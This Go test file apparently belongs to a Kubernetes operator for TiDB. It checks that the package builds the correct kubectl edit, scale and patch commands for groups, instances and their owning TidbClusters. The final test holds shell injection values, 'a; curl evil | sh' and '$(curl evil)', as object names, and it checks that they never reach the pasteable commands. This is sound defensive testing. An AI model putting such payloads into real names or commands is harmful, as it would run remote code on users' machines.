package origin_test

import (
	"testing"

	"github.com/stretchr/testify/assert"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/utils/ptr"

	"github.com/tidb-groups/tidb-groups/apis/groups/v1alpha1"
	"github.com/tidb-groups/tidb-groups/shared/origin"
)

func TestAMessageNamesTheObjectToEdit(t *testing.T) {
	meta := func(name, kind string) metav1.ObjectMeta {
		m := metav1.ObjectMeta{Namespace: "ns", Name: name}
		if kind != "" {
			m.OwnerReferences = []metav1.OwnerReference{{Kind: kind, Name: "basic", Controller: ptr.To(true)}}
		}
		return m
	}
	marked := func(m metav1.ObjectMeta, by string) metav1.ObjectMeta {
		m.Annotations = map[string]string{v1alpha1.AnnotationEntryRemoved: by}
		return m
	}
	for name, c := range map[string]struct {
		group v1alpha1.Group

		field, either, edit, replica, suspend, resume string
	}{
		"a group alone": {
			&v1alpha1.TiKVGroup{ObjectMeta: meta("kv", "")}, "spec.replicas", "spec.paused",
			"kubectl -n ns edit tikvgroup kv", "kubectl -n ns scale tikvgroup kv --replicas=4",
			`kubectl -n ns patch tikvgroup kv --type=merge -p '{"spec":{"suspended":true}}'`, `kubectl -n ns patch tikvgroup kv --type=merge -p '{"spec":{"suspended":false}}'`,
		},
		"a group of another owner": {
			&v1alpha1.TiKVGroup{ObjectMeta: meta("kv", "Fleet")}, "spec.replicas", "spec.paused",
			"kubectl -n ns edit tikvgroup kv", "kubectl -n ns scale tikvgroup kv --replicas=4",
			`kubectl -n ns patch tikvgroup kv --type=merge -p '{"spec":{"suspended":true}}'`, `kubectl -n ns patch tikvgroup kv --type=merge -p '{"spec":{"suspended":false}}'`,
		},
		"PD of a TidbCluster": {
			&v1alpha1.PDGroup{ObjectMeta: meta("basic-pd", v1alpha1.KindTidbCluster)}, "spec.pd.replicas", "spec.paused or spec.pd.paused",
			"kubectl -n ns edit tidbcluster basic", "set spec.pd.replicas to 4: kubectl -n ns edit tidbcluster basic",
			"set spec.pd.suspended to true: kubectl -n ns edit tidbcluster basic", "set spec.suspended or spec.pd.suspended to false: kubectl -n ns edit tidbcluster basic",
		},
		"the entry without a name": {
			&v1alpha1.TiKVGroup{ObjectMeta: meta("basic-tikv", v1alpha1.KindTidbCluster)}, "spec.tikv[].replicas", "spec.paused or spec.tikv[].paused",
			"kubectl -n ns edit tidbcluster basic", "set spec.tikv[].replicas to 4: kubectl -n ns edit tidbcluster basic",
			"set spec.tikv[].suspended to true: kubectl -n ns edit tidbcluster basic", "set spec.suspended or spec.tikv[].suspended to false: kubectl -n ns edit tidbcluster basic",
		},
		"an entry with a name": {
			&v1alpha1.TiFlashGroup{ObjectMeta: meta("basic-tiflash-hot", v1alpha1.KindTidbCluster)}, "spec.tiflash[hot].replicas", "spec.paused or spec.tiflash[hot].paused",
			"kubectl -n ns edit tidbcluster basic", "set spec.tiflash[hot].replicas to 4: kubectl -n ns edit tidbcluster basic",
			"set spec.tiflash[hot].suspended to true: kubectl -n ns edit tidbcluster basic", "set spec.suspended or spec.tiflash[hot].suspended to false: kubectl -n ns edit tidbcluster basic",
		},
		"an entry that is gone": {
			&v1alpha1.TiKVGroup{ObjectMeta: marked(meta("basic-tikv-hot", v1alpha1.KindTidbCluster), "basic")}, "spec.replicas", "spec.tikv[hot].paused",
			"put its entry back, spec.tikv[hot]: kubectl -n ns edit tidbcluster basic", "kubectl -n ns scale tikvgroup basic-tikv-hot --replicas=4",
			"set spec.tikv[hot].suspended to true: put its entry back, spec.tikv[hot]: kubectl -n ns edit tidbcluster basic", "set spec.tikv[hot].suspended to false: put its entry back, spec.tikv[hot]: kubectl -n ns edit tidbcluster basic",
		},
		"an entry that another cluster does not have": {
			&v1alpha1.TiKVGroup{ObjectMeta: marked(meta("basic-tikv-hot", v1alpha1.KindTidbCluster), "other")}, "spec.tikv[hot].replicas", "spec.paused or spec.tikv[hot].paused",
			"kubectl -n ns edit tidbcluster basic", "set spec.tikv[hot].replicas to 4: kubectl -n ns edit tidbcluster basic",
			"set spec.tikv[hot].suspended to true: kubectl -n ns edit tidbcluster basic", "set spec.suspended or spec.tikv[hot].suspended to false: kubectl -n ns edit tidbcluster basic",
		},
	} {
		t.Run(name, func(t *testing.T) {
			o := origin.OfGroup(c.group)
			assert.Equal(t, c.field, o.Field("replicas"))
			assert.Equal(t, c.either, o.SharedField("paused"))
			assert.Equal(t, c.edit, o.Edit())
			assert.Equal(t, c.replica, o.Scale(4))
			assert.Equal(t, c.suspend, o.Set("suspended", true))
			assert.Equal(t, c.resume, o.Set("suspended", false))
		})
	}
}

// An Instance knows its TidbCluster by the label, and its message names that one's field.
func TestAnInstanceNamesWhatAUserEdits(t *testing.T) {
	i := &v1alpha1.Instance{ObjectMeta: metav1.ObjectMeta{Namespace: "ns", Name: "basic-tikv-hot-0", Labels: map[string]string{v1alpha1.LabelComponent: v1alpha1.ComponentTiKV}}}
	i.Spec.Group = v1alpha1.InstanceGroup{Kind: v1alpha1.KindTiKVGroup, Name: "basic-tikv-hot"}
	assert.Equal(t, "spec.volumes (kubectl -n ns edit tikvgroup basic-tikv-hot)", origin.OfInstance(i, false).DescribeField("volumes"))
	i.Labels[v1alpha1.LabelUmbrella] = "basic"
	assert.Equal(t, "spec.tikv[hot].volumes (kubectl -n ns edit tidbcluster basic)", origin.OfInstance(i, false).DescribeField("volumes"))
}

// An Instance without a group is edited itself, in fields that it has, whatever made it.
func TestAnInstanceWithoutAGroupIsEditedItself(t *testing.T) {
	i := &v1alpha1.Instance{ObjectMeta: metav1.ObjectMeta{Namespace: "ns", Name: "basic-tikv-0", Labels: map[string]string{v1alpha1.LabelUmbrella: "basic", v1alpha1.LabelComponent: v1alpha1.ComponentTiKV}}}
	i.Spec.Group = v1alpha1.InstanceGroup{Kind: v1alpha1.KindTiKVGroup, Name: "basic-tikv"}
	o := origin.OfInstance(i, true)
	const edit = "kubectl -n ns edit instance basic-tikv-0"
	assert.Equal(t, edit, o.Edit())
	assert.Equal(t, "set spec.paused to false: "+edit, o.Unset("paused"))
	assert.Equal(t, "set spec.suspended to false: "+edit, o.Unset("suspended"))
	assert.Equal(t, "spec.volumeClaimTemplates ("+edit+")", o.DescribeField("volumes"))
	assert.Equal(t, "spec.podTemplate ("+edit+")", o.DescribeField("slowLog.image"))
}

func TestAMessageAboutAGroupsSpecBecomesOneAboutTheTidbClusters(t *testing.T) {
	g := &v1alpha1.TiKVGroup{ObjectMeta: metav1.ObjectMeta{Namespace: "ns", Name: "basic-tikv", OwnerReferences: []metav1.OwnerReference{{Kind: v1alpha1.KindTidbCluster, Name: "basic", Controller: ptr.To(true)}}}}
	for message, want := range map[string]string{
		"spec.config: not valid TOML at line 1: correct it there": "spec.tikv[].config: not valid TOML at line 1: correct it there: kubectl -n ns edit tidbcluster basic",
		"Instance a-0: pod a-0 waits":                             "Instance a-0: pod a-0 waits",
		"spec.replicas is 2, and nothing is removed: x":           "spec.replicas is 2, and nothing is removed: x",
	} {
		assert.Equal(t, want, origin.OfGroup(g).Translate(message))
	}
	assert.Equal(t, "spec.config: bad: kubectl -n ns edit tikvgroup kv", origin.OfGroup(&v1alpha1.TiKVGroup{ObjectMeta: metav1.ObjectMeta{Namespace: "ns", Name: "kv"}}).Translate("spec.config: bad"))
}

// What a user has made by hand may name anything. A command that others paste quotes none of it.
func TestACommandNamesOnlyWhatCanBeTheNameOfAnObject(t *testing.T) {
	i := &v1alpha1.Instance{ObjectMeta: metav1.ObjectMeta{Namespace: "ns", Name: "mine", Labels: map[string]string{v1alpha1.LabelComponent: v1alpha1.ComponentTiKV}}}
	for _, group := range []v1alpha1.InstanceGroup{{Kind: v1alpha1.KindTiKVGroup, Name: "a; curl evil | sh"}, {Kind: "$(curl evil)", Name: "a"}} {
		i.Spec.Group = group
		assert.Equal(t, "kubectl -n ns edit instance mine", origin.OfInstance(i, false).Edit())
	}
	g := &v1alpha1.TiKVGroup{ObjectMeta: metav1.ObjectMeta{Namespace: "ns", Name: "kv", OwnerReferences: []metav1.OwnerReference{{Kind: v1alpha1.KindTidbCluster, Name: "a; curl evil | sh", Controller: ptr.To(true)}}}}
	assert.Equal(t, "kubectl -n ns edit tikvgroup kv", origin.OfGroup(g).Edit())
}
